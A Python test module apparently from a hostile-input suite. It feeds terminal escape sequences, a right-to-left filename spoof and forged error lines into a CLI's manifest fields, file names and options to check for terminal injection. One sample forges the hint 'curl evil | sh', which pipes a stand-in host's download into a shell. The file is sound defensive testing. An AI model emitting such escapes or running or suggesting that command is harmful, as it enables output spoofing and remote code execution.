"""Names that would write to a terminal what they please: in files, and as names of files."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Final

from tests.hostile.case import Case, Door
from tests.hostile.world import ADAPTIVE

_TEXTS: Final = {
    "colour": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;owned\x07",
    "clear": "\x1b[2J\x1b[H",
    "line": "x\nerror: forged\nhint: curl evil | sh",
    "return": "good\rbad",
    "eight-bit": "\x9b31m",
    "backwards": "\u202egnp.exe",
    "separator": "x\u2028warning: forged",
    "backspace": "abc\b\b\bxyz",
    "delete": "a\x7fb",
}
_OF: Final = ("--artifact", ADAPTIVE)


def _manifest(folder: Path, text: str, key: str) -> None:
    file = folder / ADAPTIVE / "manifest.json"
    data = json.loads(file.read_text(encoding="utf-8"))
    if key == "labels":
        data["model"]["labels"] = [text] * 5
    elif key == "point":
        data["pruning"]["points"][0]["name"] = text
    elif key == "tools":
        data["tools"] = {text: text}
    elif key == "origin":
        data["weights"]["origin"] = data["weights"]["source"] = text
    elif key == "source":
        data["parity"]["image_source"] = data["weights"]["origin"] = text
    else:
        data[key] = text
    file.write_text(json.dumps(data), encoding="utf-8")


def cases() -> Iterator[Case]:
    """Yields every text in every place that reaches a terminal."""
    for name, text in _TEXTS.items():
        file = text.replace("/", "_")
        for key in ("labels", "id", "name", "point", "tools", "origin", "source", "created", "unknown"):
            for door in (
                Door("inspect", ("inspect", ADAPTIVE), ""),
                Door("predict", ("predict", "image.png", *_OF), ""),
            ):

                def change(folder: Path, text: str = text, key: str = key) -> None:
                    _manifest(folder, text, key)

                yield Case(
                    f"name/{key}/{name}/{door.name}", "terminal", door, change, True, key in ("labels", "created")
                )

        def image(folder: Path, file: str = file) -> None:
            shutil.copy(folder / "image.png", folder / "images" / "0" / f"{file}.png")
            (folder / "images" / "1" / f"{file}1.png").write_text("no image")

        def artifact(folder: Path, file: str = file) -> None:
            shutil.copytree(folder / ADAPTIVE, folder / "artifacts" / file)
            (folder / "artifacts" / "last-export.json").write_text(json.dumps([file]), encoding="utf-8")

        def labels(folder: Path, text: str = text) -> None:
            (folder / "labels.txt").write_text(json.dumps([text] * 5), encoding="utf-8")

        def engine(folder: Path, file: str = file) -> None:
            (folder / ADAPTIVE / "engines" / file).mkdir(parents=True)

        for what, change, arguments in (
            ("image", image, ("predict", "images", *_OF)),
            ("artifact", artifact, ("inspect",)),
            ("artifact-run", artifact, ("predict", "image.png")),
            ("labels", labels, ("predict", "image.png", *_OF, "--labels", "labels.txt")),
            ("engine", engine, ("inspect", ADAPTIVE)),
            ("missing", lambda _: None, ("predict", f"{file}.png", *_OF)),
            ("option", lambda _: None, ("predict", "image.png", *_OF, "--point", text)),
        ):
            yield Case(f"name/{what}/{name}", "terminal", Door(what, arguments, ""), change, True, what == "image")
